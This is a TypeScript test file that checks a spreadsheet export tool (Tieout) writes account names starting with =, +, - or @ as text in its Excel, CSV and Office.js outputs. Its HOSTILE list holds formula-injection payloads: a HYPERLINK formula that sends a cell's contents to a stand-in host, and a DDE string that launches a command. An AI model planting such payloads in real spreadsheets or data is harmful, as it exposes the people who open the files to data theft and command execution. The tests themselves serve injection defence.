// Issue 11 item 1: an account name from a filing that starts with "=", "+", "-" or "@" is text in
// every writer — the workbook `tieout import` writes (exceljs), the CSV of a plan, and the sheet
// the pane inserts (Office.js, through the stand-in). Only formulas Tieout composed are formulas.
import Decimal from "decimal.js";
import ExcelJS from "exceljs";
import fc from "fast-check";
import { parseCsv } from "../../src/core/schedule2/grid";
import type { ScheduleModel } from "../../src/core/schedule2/types";
import { isFormula, planCsv, scheduleSheetPlan } from "../../src/core/workbook";
import { planWorkbook } from "../../src/cli/xlsx";
import { createOfficeGateway } from "../../src/excel/gateway";
import { toNewSheetTable } from "../../src/taskpane/shared/sheet-plan";
import { installStandin } from "../office-standin/install";

const HOSTILE = ['=HYPERLINK("http://x/?d="&C7,"A")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "=1+1"];

const hostileName = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.tuple(fc.constantFrom("=", "+", "-", "@"), fc.string({ minLength: 1 })).map(([a, b]) => a + b),
);

function modelWith(account: string, period: string): ScheduleModel {
  const d = (n: number) => new Decimal(n);
  return {
    title: account,
    units: "",
    columns: [
      { role: "begin", header: "Balance at beginning" },
      { role: "addition", header: account },
      { role: "deduction", header: "Deductions" },
      { role: "end", header: "Balance at end" },
    ],
    signConvention: "deductions-subtracted",
    rows: [
      {
        period,
        periodLabel: period,
        account,
        isTotal: false,
        begin: d(100),
        additions: [d(20)],
        deductions: [d(5)],
        end: d(115),
        location: account,
        cellLocations: [],
      },
    ],
    parseNotes: [],
  };
}

/** Formulas in the plan that Tieout composed: none of them may hold the hostile text. */
const composed = (model: ScheduleModel) =>
  scheduleSheetPlan(model)
    .rows.flat()
    .filter(isFormula)
    .map((f) => `=${f.formula}`);

describe("hostile account names are written as text by every writer", () => {
  test("exceljs: the cell holds the name as a string; the only formulas are Tieout's", async () => {
    await fc.assert(
      fc.asyncProperty(hostileName, hostileName, async (account, period) => {
        const model = modelWith(account, period);
        const buffer = await planWorkbook([scheduleSheetPlan(model)]).xlsx.writeBuffer();
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load(buffer);
        const formulas: string[] = [];
        const texts: unknown[] = [];
        workbook.worksheets[0].eachRow((row) =>
          row.eachCell((cell) => {
            const v = cell.value as { formula?: string } | string;
            if (typeof v === "object" && v !== null && "formula" in v) formulas.push(`=${v.formula}`);
            else texts.push(v);
          }),
        );
        expect(formulas).toEqual(composed(model));
        expect(texts).toContain(account);
        expect(texts).toContain(period);
      }),
      { numRuns: 60 },
    );
  });

  test("CSV: every hostile text field reads back with a leading apostrophe, never as =, +, - or @", () => {
    fc.assert(
      fc.property(hostileName, (account) => {
        const fields = parseCsv(planCsv(scheduleSheetPlan(modelWith(account, "2003")))).flat();
        expect(fields).toContain(`'${account}`);
        expect(fields).not.toContain(account);
        // The only fields a spreadsheet would take for formulas are the ones Tieout composed.
        const live = fields.filter((f) => /^[=+\-@]/.test(f) && !/^-?\d/.test(f));
        expect(live).toEqual(composed(modelWith(account, "2003")));
      }),
      { numRuns: 200 },
    );
  });

  test("Office.js: the inserted sheet holds the name as text and no formula but Tieout's", async () => {
    const gateway = createOfficeGateway();
    await fc.assert(
      fc.asyncProperty(hostileName, async (account) => {
        const standin = installStandin({ sheets: [{ name: "S" }] });
        const model = modelWith(account, "2003");
        const written = await gateway.writeTableToNewSheet(toNewSheetTable(scheduleSheetPlan(model)));
        const cells = [...standin.sheet(written.sheetName).cells.values()];
        expect(cells.filter((c) => c.formula).map((c) => c.formula)).toEqual(composed(model));
        expect(cells.map((c) => c.value)).toContain(account);
      }),
      { numRuns: 40 },
    );
  });
});
